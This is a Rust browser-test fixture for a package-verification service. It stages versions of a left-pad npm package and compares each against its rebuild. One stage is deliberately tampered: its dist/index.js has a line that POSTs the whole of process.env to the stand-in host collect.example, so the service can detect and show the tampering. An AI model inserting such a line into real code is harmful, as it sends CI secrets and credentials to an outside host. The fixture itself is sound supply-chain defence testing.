//! What the browser finds: a service on a port of its own with four stages of one package, two that pass, one that was
//! tampered with, and one whose rebuild goes on while it is looked at. Every verdict came through the queue, from real
//! tarballs, compared and judged by the service.

use std::path::PathBuf;

use bytes::Bytes;
use countersign::{
    queue,
    store::{
        decisions::{self, Kind},
        tokens::Scope,
    },
};
use countersign_core::{
    protocol::{Heartbeat, Job, Lease, VerificationId, WorkerReport},
    rebuild::Phase,
    source::{Evidence, EvidenceKind},
    verdict::Timings,
};
use serde_json::{Value, json};
use tokio::sync::Mutex;
use uuid::Uuid;

use super::{done, driver::chromium};
use crate::support::{self, Authenticator, Fixture, PACKAGE, PASSWORD, Pack, Served};

const REBUILT: &str = "// left-pad: fills a text up to a length.\n\
    export function leftPad(text, length, fill = ' ') {\n  \
      const missing = length - text.length;\n  \
      return missing > 0 ? String(fill).repeat(missing) + text : text;\n\
    }\n";
/// What somebody with a CI token adds after the build.
const TAMPERED_LINE: &str =
    "  fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(process.env) });";
const TAMPERED_PATH: &str = "dist/index.js";
const LOG: &str = "== install: npm ci\nadded 3 packages\n== build: npm run build\n> left-pad build\n> tsc --project .\n\u{1b}[32mdone\u{1b}[0m in 4 files\n";

/// The service and its stages.
pub(super) struct Scene {
    served: Served,
    ada: Authenticator,
    worker: Uuid,
    pass: VerificationId,
    fail: VerificationId,
    other: VerificationId,
    live: VerificationId,
    under_way: Mutex<Option<Lease>>,
}

fn pack(version: &str) -> Pack {
    Pack::of(version)
        .with("README.md", "# left-pad\n\nFills a text up to a length.\n")
        .with("LICENSE", "MIT\n")
        .with("dist/index.d.ts", "export function leftPad(text: string, length: number): string;\n")
        .with(TAMPERED_PATH, REBUILT)
        .with("dist/cjs/index.cjs", &REBUILT.replace("export ", "module.exports = "))
}

fn tampered(version: &str) -> Pack {
    let opening = "fill = ' ') {\n";
    let with_line = REBUILT.replace(opening, &format!("{opening}{TAMPERED_LINE}\n"));
    assert_ne!(with_line, REBUILT, "the line was added");
    pack(version).with(TAMPERED_PATH, &with_line)
}

impl Scene {
    /// Sets it.
    pub(super) async fn set() -> Self {
        let served = Served::new().await;
        let fixture = &served.fixture;
        let ada = fixture.authenticator("ada");
        let (_, worker) = fixture.token_secret(&[Scope::Worker], &[]).await;
        let judged = async |version: &str, staged: Pack| {
            let id = fixture.stage(version, &staged).await;
            let lease = lease(fixture, worker).await;
            report(fixture, worker, &lease, &staged.tgz(), &pack(version).tgz()).await;
            id
        };
        let pass = judged("1.3.0", pack("1.3.0")).await;
        let other = judged("1.3.1", pack("1.3.1")).await;
        let fail = judged("1.4.0", tampered("1.4.0")).await;
        let live = fixture.stage("1.5.0", &pack("1.5.0")).await;
        let under_way = Mutex::new(None);
        Self { ada, worker, pass, fail, other, live, under_way, served }
    }

    /// What the browser has to know.
    pub(super) fn script(&self) -> Value {
        let folder = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("browser");
        json!({
            "url": format!("{}/", self.served.url),
            "chromium": chromium(),
            "shots": folder,
            "name": "ada",
            "password": PASSWORD,
            "stages": { "pass": self.pass, "fail": self.fail, "other": self.other, "live": self.live },
            "package": PACKAGE,
            "version": "1.3.0",
            "sha512": countersign_core::Sha512::of(&pack("1.3.0").tgz()),
            "commit": support::COMMIT,
            "tampered_path": TAMPERED_PATH,
            "tampered_line": TAMPERED_LINE.trim(),
            "log_line": "done in 4 files",
        })
    }

    /// A code that counts, after the wait for it.
    pub(super) fn code(&self) -> String {
        self.ada.fresh_code()
    }

    /// The worker takes the live stage and builds.
    pub(super) async fn build(&self) -> Value {
        let lease = lease(&self.served.fixture, self.worker).await;
        self.beat(&lease, Phase::Build, "npm run build").await;
        *self.under_way.lock().await = Some(lease);
        done()
    }

    /// It packs.
    pub(super) async fn pack(&self) -> Value {
        let lease = self.under_way.lock().await;
        self.beat(lease.as_ref().unwrap(), Phase::Pack, "npm pack").await;
        done()
    }

    /// It reports.
    pub(super) async fn judge(&self) -> Value {
        let lease = self.under_way.lock().await.take().unwrap();
        let tgz = pack("1.5.0").tgz();
        report(&self.served.fixture, self.worker, &lease, &tgz, &tgz).await;
        done()
    }

    async fn beat(&self, lease: &Lease, phase: Phase, detail: &str) {
        let beat = Heartbeat { phase, detail: detail.to_owned() };
        queue::heartbeat(&self.served.fixture.app, self.worker, &lease.id, beat).await.unwrap();
    }

    /// What was decided about each stage in the end, by the store's word.
    pub(super) async fn decisions(&self) -> Vec<Option<(Kind, bool)>> {
        let mut reader = self.served.fixture.app.store.read().await.unwrap();
        let mut all = Vec::new();
        for id in [self.pass, self.fail, self.other, self.live] {
            let decision = decisions::find(&mut reader, id).await.unwrap();
            all.push(decision.map(|row| (row.kind, row.released_at.is_some())));
        }
        all
    }

    /// What should have been: the two that the browser approved are live, nothing else was touched.
    pub(super) fn expected_decisions(&self) -> Vec<Option<(Kind, bool)>> {
        let released = Some((Kind::Approved, true));
        vec![released, None, released, None]
    }
}

async fn lease(fixture: &Fixture, worker: Uuid) -> Lease {
    queue::lease(&fixture.app, worker, "worker-1").await.unwrap().expect("a stage waits")
}

async fn report(fixture: &Fixture, worker: Uuid, lease: &Lease, staged: &Bytes, rebuilt: &Bytes) {
    let app = &fixture.app;
    queue::upload_rebuilt(app, worker, &lease.id, rebuilt.clone()).await.unwrap();
    queue::upload_log(app, worker, &lease.id, Bytes::from_static(LOG.as_bytes())).await.unwrap();
    let report = seen(&lease.job, staged, rebuilt);
    queue::report(app, worker, &lease.id, report).await.unwrap();
}

/// What a worker that did all of it would have seen, so that the pages have everything to show.
fn seen(job: &Job, staged: &Bytes, rebuilt: &Bytes) -> WorkerReport {
    let mut observations = support::observations(job);
    observations.timings = Timings {
        fetch: Some(212),
        checkout: Some(1_480),
        install: Some(6_300),
        build: Some(9_400),
        pack: Some(820),
        compare: Some(43),
        total: Some(18_900),
    };
    if let Some(source) = &mut observations.source {
        let evidence = |kind, detail: &str| Evidence {
            kind,
            commit: source.commit.clone(),
            agrees: true,
            detail: detail.to_owned(),
        };
        source.evidence = vec![
            evidence(EvidenceKind::Tag, "The tag names this commit, which is on main."),
            evidence(EvidenceKind::GitHead, "npm wrote this commit when it packed."),
        ];
    }
    if let Some(rebuild) = &mut observations.rebuild {
        rebuild.peak_memory_bytes = Some(214_000_000);
    }
    support::judged_with(job, observations, Some((staged, rebuilt)))
}
